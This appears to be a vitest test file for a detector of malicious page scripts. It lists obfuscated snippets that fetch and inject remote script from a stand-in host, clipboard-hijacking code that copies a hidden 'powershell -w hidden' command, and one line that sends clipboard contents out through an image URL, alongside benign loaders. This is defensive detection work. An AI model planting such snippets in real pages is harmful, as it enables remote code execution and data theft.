import { describe, expect, it } from 'vitest'
import { actsOf } from './testing.ts'

const HONEST_RUN = (code: string): boolean =>
  actsOf('run-code', code).every(
    ({ origins }) => !origins.some((one) => one === 'network' || one === 'decoded'),
  )

describe('scripts that are put into a page', () => {
  it.each([
    `fetch('https://a.invalid').then((r) => r.text()).then((t) => { const tag = document.createElement('script'); tag.text = t; document.body.appendChild(tag) })`,
    `const tag = window.document.createElement("SCRIPT"); const x = new XMLHttpRequest(); x.onload = () => { tag.appendChild(document.createTextNode(x.responseText)); document.head.append(tag) }; x.open('GET', 'https://a.invalid'); x.send()`,
    `const el = document.createElement('script'); el.src = atob('aHR0cHM6Ly9hLmludmFsaWQveC5qcw=='); document.head.append(el)`,
    `const el = document.createElement('script'); el.setAttribute('src', ['ht', 'tps:', '//', 'a.invalid'].join('')); document.head.append(el)`,
    `(async () => { const t = await (await fetch('https://a.invalid')).text(); const el = document.createElement('script'); el.src = URL.createObjectURL(new Blob([t], { type: 'text/javascript' })); document.body.append(el) })()`,
    `(function (d) { const el = d.createElement('script'); el.innerHTML = unescape('%61%6c%65%72%74%28%31%29'); d.head.append(el) })(document)`,
    `fetch('https://a.invalid').then((r) => r.json()).then(({ js }) => document.head.append(Object.assign(document.createElement('script'), { textContent: js })))`,
  ])('sees %s', (code) => {
    expect(HONEST_RUN(code)).toBe(false)
  })

  it.each([
    `const s = document.createElement('script'); s.async = true; s.src = 'https://cdn.example/a.js'; document.head.append(s)`,
    `(function (w, d, s, l, i) { var j = d.createElement(s), dl = l != 'dataLayer' ? '&l=' + l : ''; j.async = true; j.src = 'https://tags.example/gtm.js?id=' + i + dl; d.head.appendChild(j) })(window, document, 'script', 'dataLayer', 'GTM-1')`,
    `const s = document.createElement('script'); s.textContent = 'window.dataLayer = window.dataLayer || []; function tag() { dataLayer.push(arguments) }'; document.head.append(s)`,
    `fetch('https://api.example').then((r) => r.text()).then((t) => { const p = document.createElement('div'); p.textContent = t })`,
    `fetch('https://api.example/a.png').then((r) => r.blob()).then((b) => { const i = document.createElement('img'); i.src = URL.createObjectURL(b) })`,
  ])('has nothing against %s', (code) => {
    expect(HONEST_RUN(code)).toBe(true)
  })
})

describe('what a page copies through a field', () => {
  it.each([
    `const box = document.createElement('textarea'); box.value = ['po', 'wershell'].join('') + ' -w hidden'; document.body.appendChild(box); box.select(); document.execCommand('copy')`,
    `document.querySelector('#b').onclick = () => { const i = document.createElement('input'); i.setAttribute('value', \`\${'power'}shell -w hidden\`); i.select(); document.execCommand("copy") }`,
    `const hidden = document.getElementById('clip'); hidden.value = 'powershell -w hidden'; hidden.select(); document.execCommand('Copy')`,
  ])('reads %s', (code) => {
    expect(actsOf('write-clipboard', code).flatMap(({ values }) => values)).toContain('powershell -w hidden')
  })

  it('leaves fields alone that nobody copies', () => {
    const code = `const box = document.createElement('textarea'); box.value = 'powershell -w hidden'; document.execCommand('bold')`
    expect(actsOf('write-clipboard', code)).toEqual([])
  })
})

it('sees what the address of an image carries away', () => {
  const [act] = actsOf(
    'upload',
    `navigator.clipboard.readText().then((t) => { new Image().src = 'https://a.invalid/p?d=' + encodeURIComponent(t) })`,
  )
  expect(act?.origins).toContain('clipboard')
  expect(actsOf('upload', `new Image().src = 'https://a.example/pixel.gif?p=' + location.pathname`)).toEqual(
    [],
  )
})
